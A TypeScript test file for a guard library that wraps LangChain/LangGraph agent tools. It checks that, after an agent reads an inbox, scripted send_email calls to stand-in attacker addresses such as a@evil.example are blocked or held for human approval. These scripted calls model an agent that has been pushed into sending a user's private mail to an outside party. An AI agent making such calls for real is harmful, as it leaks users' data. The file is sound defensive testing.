import { ApprovalRequiredError, OsoValidationError, ToolDeniedError } from '@oso-agents/core';
import { HumanMessage, ToolMessage, type BaseMessage } from '@langchain/core/messages';
import { DynamicStructuredTool, type StructuredTool } from '@langchain/core/tools';
import { END, MemorySaver, MessagesAnnotation, START, StateGraph } from '@langchain/langgraph';
import { ToolNode, toolsCondition } from '@langchain/langgraph/prebuilt';
import { createAgent } from 'langchain';
import { describe, expect, it } from 'vitest';
import { withOso } from './index.js';
import {
  ATTACK_SCRIPT,
  CalculatorTool,
  MAIL_CAPABILITIES,
  mailOso,
  mailTools,
  scriptedModel,
  timelineLines,
  type ScriptStep,
  type ToolLog,
} from './mail-scenario.fixture.js';

/** A hand-built LangGraph agent: model node → prebuilt ToolNode → model node. */
function toolNodeGraph(script: ScriptStep[], tools: StructuredTool[]) {
  const model = scriptedModel(script).bindTools(tools);
  return new StateGraph(MessagesAnnotation)
    .addNode('agent', async (state) => ({ messages: [await model.invoke(state.messages)] }))
    .addNode('tools', new ToolNode(tools))
    .addEdge(START, 'agent')
    .addConditionalEdges('agent', toolsCondition, ['tools', END])
    .addEdge('tools', 'agent')
    .compile({ checkpointer: new MemorySaver() });
}

const ask = (text: string) => ({ messages: [new HumanMessage(text)] });
const thread = (id: string) => ({ configurable: { thread_id: id } });

function toolMessage(messages: readonly BaseMessage[], toolCallId: string): ToolMessage | undefined {
  return messages.find((message): message is ToolMessage => ToolMessage.isInstance(message) && message.tool_call_id === toolCallId);
}

describe('withOso(tools)', () => {
  it('returns tools with the same name, description, schema and class (tool(), DynamicStructuredTool, StructuredTool)', () => {
    const log: ToolLog = { executed: [] };
    const { readInbox, calculator } = mailTools(log);
    const dynamic = new DynamicStructuredTool({
      name: 'lookup',
      description: 'Look up a word',
      schema: { type: 'object' as const, properties: { word: { type: 'string' as const } }, required: ['word'] },
      func: async () => 'a word',
    });
    const originals = [readInbox, calculator, dynamic] as const;
    const guarded = withOso(originals, { oso: mailOso(), sessionId: 's' });

    expect(guarded).toHaveLength(3);
    guarded.forEach((tool, index) => {
      const original = originals[index]!;
      expect(tool).not.toBe(original);
      expect(tool.name).toBe(original.name);
      expect(tool.description).toBe(original.description);
      expect(tool.schema).toBe(original.schema);
      expect(Object.getPrototypeOf(tool)).toBe(original);
    });
    expect(guarded[1]).toBeInstanceOf(CalculatorTool);
    expect(guarded[2]).toBeInstanceOf(DynamicStructuredTool);
    const single = withOso(calculator, { oso: mailOso(), sessionId: 's' });
    expect(single).toBeInstanceOf(CalculatorTool);
  });

  it('registers each tool with the engine: name, description, JSON Schema, and the capabilities override', () => {
    const oso = mailOso();
    const { sendEmail, readInbox } = mailTools({ executed: [] });
    withOso([sendEmail, readInbox], { oso, integration: 'mail', capabilities: { read_inbox: ['untrusted_content', 'private_data'] } });

    const send = oso.getTool('mail.send_email');
    expect(send?.definition).toMatchObject({
      name: 'send_email',
      description: 'Send an email to a recipient',
      inputSchema: { type: 'object', properties: { to: { type: 'string' }, body: { type: 'string' } } },
    });
    expect(send?.capabilities).toContain('external_or_state_change'); // found by the classifier
    expect(oso.getTool('mail.read_inbox')?.classification.source).toBe('override');
  });

  it('in a LangGraph ToolNode graph: blocks the attack, the blocked tool never runs, the run continues', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso();
    const tools = withOso(Object.values(mailTools(log)), { oso, capabilities: MAIL_CAPABILITIES });
    const graph = toolNodeGraph(ATTACK_SCRIPT, tools);

    const result = await graph.invoke(ask('Summarise my inbox'), thread('graph-attack'));
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
    const blocked = toolMessage(result.messages, 'call_send');
    expect(blocked?.status).toBe('error');
    expect(blocked?.content).toContain('The action "langchain.send_email" was blocked by the security policy');
    expect(result.messages.at(-1)?.content).toBe('I could not send that email.');
    expect(timelineLines(await oso.session('graph-attack').timeline())).toEqual([
      'tool_call_request langchain.read_inbox call_inbox',
      'decision langchain.read_inbox call_inbox: allow',
      'tool_call_response langchain.read_inbox call_inbox',
      'tool_call_request langchain.send_email call_send',
      'decision langchain.send_email call_send: deny (lethal_trifecta)',
    ]);
  });

  it('in a ToolNode graph: a benign session gives the same messages as unwrapped tools', async () => {
    const script: ScriptStep[] = [
      { calls: [{ id: 'call_file', name: 'read_file', args: { path: 'notes.txt' } }, { id: 'call_add', name: 'calculator', args: { a: 2, b: 3 } }] },
      { text: 'done' },
    ];
    const log: ToolLog = { executed: [] };
    const plainLog: ToolLog = { executed: [] };
    const guarded = await toolNodeGraph(script, withOso(Object.values(mailTools(log)), { oso: mailOso(), capabilities: MAIL_CAPABILITIES })).invoke(
      ask('go'),
      thread('graph-benign'),
    );
    const plain = await toolNodeGraph(script, Object.values(mailTools(plainLog))).invoke(ask('go'), thread('graph-benign'));
    const view = (messages: readonly BaseMessage[]) => messages.map((message) => [message.getType(), message.content]);
    expect(view(guarded.messages)).toEqual(view(plain.messages));
    expect(log.executed.map((entry) => entry.tool).sort()).toEqual(['calculator', 'read_file']);
  });

  it('in a ToolNode graph: parallel sends after the read are both blocked (decisions are serialised)', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso();
    const tools = withOso(Object.values(mailTools(log)), { oso, capabilities: MAIL_CAPABILITIES });
    const graph = toolNodeGraph(
      [
        { calls: [{ id: 'call_inbox', name: 'read_inbox', args: {} }] },
        {
          calls: [
            { id: 'call_send_a', name: 'send_email', args: { to: 'a@evil.example', body: '1' } },
            { id: 'call_send_b', name: 'send_email', args: { to: 'b@evil.example', body: '2' } },
            { id: 'call_add', name: 'calculator', args: { a: 1, b: 1 } },
          ],
        },
        { text: 'done' },
      ],
      tools,
    );
    const result = await graph.invoke(ask('go'), thread('graph-parallel'));
    expect(log.executed.map((entry) => entry.tool).sort()).toEqual(['calculator', 'read_inbox']);
    expect(toolMessage(result.messages, 'call_send_a')?.status).toBe('error');
    expect(toolMessage(result.messages, 'call_send_b')?.status).toBe('error');
    expect(toolMessage(result.messages, 'call_add')?.content).toBe('2');
  });

  it('awaits the engine onApproval in a graph, and runs the call once approved', async () => {
    const log: ToolLog = { executed: [] };
    const asked: string[] = [];
    const oso = mailOso({
      environment: 'development',
      onApproval: (request) => {
        asked.push(request.toolCallId);
        return { approved: true, by: 'alice@example.com' };
      },
    });
    const graph = toolNodeGraph(ATTACK_SCRIPT, withOso(Object.values(mailTools(log)), { oso, capabilities: MAIL_CAPABILITIES }));
    await graph.invoke(ask('Summarise my inbox'), thread('graph-approval'));
    expect(asked).toEqual(['call_send']);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox', 'send_email']);
  });

  it('without onApproval tells the model the call waits; once resolved out of band the same call runs', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso({ environment: 'development' });
    const send = { name: 'send_email', args: { to: 'bob@example.com', body: 'numbers' } };
    const graph = toolNodeGraph(
      [
        { calls: [{ id: 'call_inbox', name: 'read_inbox', args: {} }] },
        { calls: [{ id: 'call_send_1', ...send }] },
        { text: 'It needs approval.' },
        { calls: [{ id: 'call_send_2', ...send }] },
        { text: 'Sent.' },
      ],
      withOso(Object.values(mailTools(log)), { oso, capabilities: MAIL_CAPABILITIES }),
    );
    const first = await graph.invoke(ask('send bob the numbers'), thread('graph-out-of-band'));
    const waiting = toolMessage(first.messages, 'call_send_1');
    const approvalId = /request (apr_[\w-]+)/.exec(String(waiting?.content))?.[1];
    expect(approvalId).toBeDefined();
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);

    await oso.resolveApproval(approvalId!, { approved: true, by: 'alice@example.com' });
    const second = await graph.invoke(ask('approved, go ahead'), thread('graph-out-of-band'));
    expect(toolMessage(second.messages, 'call_send_2')?.content).toBe('sent to bob@example.com');
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox', 'send_email']);
  });

  it('works as createAgent tools without the middleware', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso();
    const agent = createAgent({
      model: scriptedModel(ATTACK_SCRIPT),
      tools: withOso(Object.values(mailTools(log)), { oso, capabilities: MAIL_CAPABILITIES }),
    });
    const result = await agent.invoke(ask('Summarise my inbox'), thread('agent-tools'));
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
    expect(toolMessage(result.messages, 'call_send')?.status).toBe('error');
  });

  it('called directly: returns an error ToolMessage for a tool call, throws typed errors otherwise', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso();
    const tools = mailTools(log);
    const options = { oso, sessionId: 'direct', capabilities: MAIL_CAPABILITIES };
    await withOso(tools.readInbox, options).invoke({});
    const sendEmail = withOso(tools.sendEmail, options);

    const message = await sendEmail.invoke({ id: 'call_x', name: 'send_email', args: { to: 'x@evil.example', body: 'b' }, type: 'tool_call' });
    expect(ToolMessage.isInstance(message) && message.status).toBe('error');
    await expect(sendEmail.invoke({ to: 'x@evil.example', body: 'b' })).rejects.toSatisfy(ToolDeniedError.isInstance);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);

    const pendingOptions = { ...options, oso: mailOso({ environment: 'development' }) };
    await withOso(tools.readInbox, pendingOptions).invoke({});
    await expect(withOso(tools.sendEmail, pendingOptions).invoke({ to: 'x@evil.example', body: 'b' })).rejects.toSatisfy(
      ApprovalRequiredError.isInstance,
    );
  });

  it('fails closed without a session id: the tool does not run', async () => {
    const log: ToolLog = { executed: [] };
    const calculator = withOso(mailTools(log).calculator, { oso: mailOso(), capabilities: MAIL_CAPABILITIES });
    await expect(calculator.invoke({ a: 1, b: 2 })).rejects.toSatisfy(OsoValidationError.isInstance);
    expect(log.executed).toEqual([]);
  });

  it('streams a ToolNode graph run with the blocked call in the updates', async () => {
    const log: ToolLog = { executed: [] };
    const graph = toolNodeGraph(ATTACK_SCRIPT, withOso(Object.values(mailTools(log)), { oso: mailOso(), capabilities: MAIL_CAPABILITIES }));
    const statuses: string[] = [];
    const stream = (await graph.stream(ask('Summarise my inbox'), { ...thread('graph-stream'), streamMode: 'updates' })) as AsyncIterable<
      Record<string, { messages?: BaseMessage[] }>
    >;
    for await (const chunk of stream) {
      for (const message of chunk['tools']?.messages ?? []) {
        if (ToolMessage.isInstance(message)) statuses.push(`${message.tool_call_id}:${message.status ?? 'success'}`);
      }
    }
    expect(statuses).toEqual(['call_inbox:success', 'call_send:error']);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
  });
});
